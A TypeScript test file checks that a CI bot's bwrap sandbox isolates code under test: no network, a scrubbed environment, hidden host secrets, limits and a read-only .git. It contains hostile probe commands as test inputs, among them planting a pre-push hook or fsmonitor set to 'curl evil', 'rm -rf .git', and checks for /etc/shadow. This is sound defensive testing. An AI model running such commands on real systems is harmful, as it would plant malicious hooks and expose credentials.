/**
 * What the code under test can see and do inside the bwrap sandbox: no network but `lo`,
 * a scrubbed environment, no slave HOME or host secrets, no capabilities, limits applied,
 * the ssh agent in the setup phase only.
 */
import assert from 'node:assert/strict';
import { spawn, spawnSync, type ChildProcess } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:net';
import { homedir, tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { missingCommands, needs, suiteNeeds } from '../../support/components.js';
import { useTestAgent } from '../../support/ssh-agent.js';
import { BWRAP_MISSING, makeSpec, runSpec, sandbox, type Sandbox } from './support.js';

function hostInterfaces(): string[] {
  return readFileSync('/proc/net/dev', 'utf8')
    .split('\n')
    .slice(2)
    .map((l) => l.split(':')[0]?.trim() ?? '')
    .filter(Boolean)
    .sort();
}

describe('bwrap backend: isolation', suiteNeeds('bwrap', BWRAP_MISSING), () => {
  let box: Sandbox;
  before(async () => {
    box = await sandbox();
  });
  after(() => box?.cleanup());

  test('without `network` the only network device is lo', async () => {
    const { result, stdout } = await runSpec(box, makeSpec({ command: ['sh', '-c', "tail -n +3 /proc/net/dev | cut -d: -f1 | tr -d ' '"] }));
    assert.equal(result?.exitCode, 0);
    assert.deepEqual(stdout, ['lo']);
  });

  describe('loopback services of the host', () => {
    let server: Server;
    let port = 0;
    before(async () => {
      server = createServer((socket) => socket.end('hello from the host\n'));
      await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
      port = (server.address() as { port: number }).port;
    });
    after(() => new Promise<void>((resolve) => server.close(() => resolve())));

    const probe = (p: number) =>
      `require('net').connect(${p}, '127.0.0.1').on('data', (d) => { process.stdout.write(d); process.exit(0); })` +
      `.on('error', (e) => { console.log(e.code); process.exit(1); })`;

    test('are unreachable without `network`', async () => {
      const { result, stdout } = await runSpec(box, makeSpec({ command: ['node', '-e', probe(port)] }));
      assert.equal(result?.exitCode, 1);
      assert.deepEqual(stdout, ['ECONNREFUSED']);
    });

    test('are reachable with `network: true` (the host network namespace is shared)', async () => {
      const { result, stdout } = await runSpec(box, makeSpec({ network: true, command: ['node', '-e', probe(port)] }));
      assert.equal(result?.exitCode, 0);
      assert.deepEqual(stdout, ['hello from the host']);
      const devices = await runSpec(box, makeSpec({ network: true, command: ['sh', '-c', "tail -n +3 /proc/net/dev | cut -d: -f1 | tr -d ' '"] }));
      assert.deepEqual(devices.stdout.sort(), hostInterfaces());
    });
  });

  test('the environment holds only PATH, HOME, the `env` names and `setEnv`', async () => {
    const canary = `canary-${randomBytes(8).toString('hex')}`;
    process.env.BYOCI_BWRAP_CANARY = canary;
    process.env.BYOCI_BWRAP_PASSED = 'passed-through';
    try {
      const { result, stdout } = await runSpec(
        box,
        // toString and constructor: names of Object.prototype the slave does not set, not its functions as text.
        makeSpec({ env: ['BYOCI_BWRAP_PASSED', 'HOME', 'BYOCI_BWRAP_UNSET', 'toString', 'constructor'], setEnv: { FIXED: 'x=1' }, command: ['env'] }),
      );
      assert.equal(result?.exitCode, 0);
      assert.ok(!stdout.some((l) => l.includes(canary)), 'the canary of the bot’s environment is not visible');
      assert.deepEqual(stdout.sort(), [
        'BYOCI_BWRAP_PASSED=passed-through',
        'FIXED=x=1',
        'HOME=/home/byoci',
        'PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin',
        'PWD=/workspace',
      ]);
    } finally {
      delete process.env.BYOCI_BWRAP_CANARY;
      delete process.env.BYOCI_BWRAP_PASSED;
    }
  });

  describe('the slave’s files', () => {
    const marker = `.byoci-bwrap-canary-${randomBytes(6).toString('hex')}`;
    const homeMarker = join(homedir(), marker);
    const tmpMarker = join(tmpdir(), marker);
    before(() => {
      writeFileSync(homeMarker, 'secret of the slave\n', { mode: 0o600 });
      writeFileSync(tmpMarker, 'secret in /tmp\n', { mode: 0o600 });
    });
    after(() => {
      rmSync(homeMarker, { force: true });
      rmSync(tmpMarker, { force: true });
    });

    test('the slave’s HOME and /tmp are invisible; HOME is a writable throw-away directory', async () => {
      const check = (path: string) => `if [ -e '${path}' ]; then echo "visible ${path}"; else echo "hidden ${path}"; fi`;
      const { result, stdout } = await runSpec(
        box,
        makeSpec({
          command: ['sh', '-c', [check(homeMarker), check(tmpMarker), 'ls -A /tmp | wc -l', 'ls /home', 'echo w > "$HOME/w" && echo home-writable'].join('; ')],
        }),
      );
      assert.equal(result?.exitCode, 0);
      assert.deepEqual(stdout, [`hidden ${homeMarker}`, `hidden ${tmpMarker}`, '0', 'byoci', 'home-writable']);
    });
  });

  test('host secrets are not there: shadow, ssh host keys, TLS private keys, /root, /run, /var', async () => {
    const paths = ['/etc/shadow', '/etc/ssh', '/etc/ssl/private', '/etc/npmrc', '/root', '/var/lib', '/run/user', '/proc/1/root/etc/shadow'];
    const script = paths.map((p) => `if [ -e '${p}' ]; then echo "visible ${p}"; fi`).join('; ') + '; ls /run | wc -l; echo done';
    const { result, stdout } = await runSpec(box, makeSpec({ command: ['sh', '-c', script] }));
    assert.equal(result?.exitCode, 0);
    assert.deepEqual(stdout, ['0', 'done']);
  });

  test('no capabilities, a separate pid namespace, a read-only system', async () => {
    const { result, stdout } = await runSpec(
      box,
      makeSpec({
        command: [
          'sh',
          '-c',
          'grep CapEff /proc/self/status; ls /proc | grep -c "^[0-9]"; touch /usr/x 2>/dev/null || echo usr-read-only; touch /etc/passwd 2>/dev/null || echo etc-read-only',
        ],
      }),
    );
    assert.equal(result?.exitCode, 0);
    const [caps, processes, ...rest] = stdout;
    assert.match(caps ?? '', /^CapEff:\s+0+$/);
    assert.ok(Number(processes) <= 5, `only the sandbox's own processes are visible, saw ${processes}`);
    assert.deepEqual(rest, ['usr-read-only', 'etc-read-only']);
  });

  test('limits are applied: address space, processes, CPUs', async () => {
    const { result, stdout } = await runSpec(
      box,
      makeSpec({
        limits: { memory: '256MiB', processes: 64, cpu: '1' },
        command: ['sh', '-c', "grep -E '^Max (address space|processes)' /proc/self/limits | tr -s ' '; grep Cpus_allowed_list /proc/self/status | tr -d '\\t'"],
      }),
    );
    assert.equal(result?.exitCode, 0);
    assert.equal(stdout.length, 3);
    assert.match(stdout[0] ?? '', /^Max processes 64 64 processes ?$/);
    assert.match(stdout[1] ?? '', /^Max address space 268435456 268435456 bytes ?$/);
    assert.match(stdout[2] ?? '', /^Cpus_allowed_list:\d+$/);
  });

  test('the memory limit is enforced: an allocation above it fails', async () => {
    // allocUnsafe maps without touching the pages: cheap without a limit.
    const command = [
      'node',
      '-e',
      "try { Buffer.allocUnsafe(1536 * 2 ** 20); console.log('allocated'); } catch (e) { console.log(e.message); process.exit(1); }",
    ];
    const free = await runSpec(box, makeSpec({ command }));
    assert.deepEqual(free.stdout, ['allocated']);
    const limited = await runSpec(box, makeSpec({ limits: { memory: '1GiB' }, command }));
    assert.equal(limited.result?.exitCode, 1);
    assert.deepEqual(limited.stdout, ['Array buffer allocation failed']);
  });

  test('the VCS metadata is read-only: tests cannot plant hooks, config or refs the bot would push with', async (t) => {
    if (!needs(t, 'git', missingCommands('git'))) return;
    const repo = await sandbox();
    try {
      const git = (...args: string[]) =>
        spawnSync('git', ['-C', repo.dir, '-c', 'user.name=T', '-c', 'user.email=t@example.org', ...args], { encoding: 'utf8' });
      git('init', '-q', '-b', 'main');
      writeFileSync(join(repo.dir, 'a.txt'), 'a\n');
      git('add', 'a.txt');
      git('commit', '-q', '-m', 'merged');
      const head = git('rev-parse', 'HEAD').stdout.trim();
      const attempts = [
        'git log --format=%s',
        'echo "curl evil" > .git/hooks/pre-push',
        'git config core.fsmonitor "curl evil"',
        'git -c user.name=x -c user.email=x@x commit -q --allow-empty -m evil',
        'mv .git moved',
        'rm -rf .git',
        'mkdir build-output',
      ];
      const script = attempts.map((c, i) => `if ${c} >/dev/null 2>&1; then echo "ok ${i}"; else echo "refused ${i}"; fi`).join('; ');
      const { result, stdout } = await runSpec(repo, makeSpec({ command: ['sh', '-c', `git log --format=%s; ${script}`] }));
      assert.equal(result?.exitCode, 0);
      assert.deepEqual(stdout, [
        'merged',
        'ok 0', // reading the history works
        'refused 1',
        'refused 2',
        'refused 3',
        'refused 4',
        'refused 5',
        'ok 6', // the rest of the tree is writable
      ]);
      assert.equal(git('rev-parse', 'HEAD').stdout.trim(), head, 'the commit to push is unchanged');
      assert.equal(git('config', '--get', 'core.fsmonitor').status, 1, 'no fsmonitor command in the config');
      assert.equal(existsSync(join(repo.dir, '.git/hooks/pre-push')), false);
      assert.ok(existsSync(join(repo.dir, 'build-output')), 'the rest of the tree is writable');
    } finally {
      repo.cleanup();
    }
  });

  test('extra host paths and /etc entries the operator lists are visible, read-only', async () => {
    const extra = mkdtempSync(join(tmpdir(), 'byoci-bwrap-toolchain-'));
    writeFileSync(join(extra, 'tool'), 'toolchain\n');
    const configured = await sandbox({ roBind: [extra], etc: ['mime.types', 'gitconfig'] });
    try {
      const script = `cat ${extra}/tool; touch ${extra}/x 2>/dev/null || echo extra-read-only; ls /etc | grep -c -x -e gitconfig -e mime.types`;
      const { result, stdout } = await runSpec(configured, makeSpec({ command: ['sh', '-c', script] }));
      assert.equal(result?.exitCode, 0);
      const etcCount = ['mime.types', 'gitconfig'].filter((n) => existsSync(`/etc/${n}`)).length;
      assert.deepEqual(stdout, ['toolchain', 'extra-read-only', String(etcCount)]);
      const plain = await runSpec(box, makeSpec({ command: ['sh', '-c', `ls ${extra} 2>/dev/null || echo absent; ls /etc/gitconfig 2>/dev/null || echo no-gitconfig`] }));
      assert.deepEqual(plain.stdout, ['absent', 'no-gitconfig']);
    } finally {
      configured.cleanup();
      rmSync(extra, { recursive: true, force: true });
    }
  });

  describe('ssh agent', suiteNeeds('ssh-agent', missingCommands('ssh-agent', 'ssh-add', 'ssh-keygen')), () => {
    useTestAgent('byoci-bwrap-test-key');

    test('with setupAgent the setup phase can use the agent; the test phase cannot', async () => {
      const { result, stdout } = await runSpec(
        box,
        makeSpec({
          setupAgent: true,
          setup: ['sh', '-c', 'echo "setup sock=$SSH_AUTH_SOCK"; ssh-add -l | grep -o byoci-bwrap-test-key'],
          command: ['sh', '-c', 'echo "test sock=${SSH_AUTH_SOCK:-none}"; ls /run/byoci 2>/dev/null | wc -l; ssh-add -l >/dev/null 2>&1; echo "ssh-add rc=$?"'],
        }),
      );
      assert.equal(result?.exitCode, 0);
      assert.deepEqual(stdout, ['setup sock=/run/byoci/ssh-agent.sock', 'byoci-bwrap-test-key', 'test sock=none', '0', 'ssh-add rc=2']);
    });

    test('without setupAgent the setup phase gets no agent', async () => {
      const { stdout } = await runSpec(
        box,
        makeSpec({ setup: ['sh', '-c', 'echo "sock=${SSH_AUTH_SOCK:-none}"; ssh-add -l >/dev/null 2>&1; echo "rc=$?"'], command: ['true'] }),
      );
      assert.deepEqual(stdout, ['sock=none', 'rc=2']);
    });
  });
});
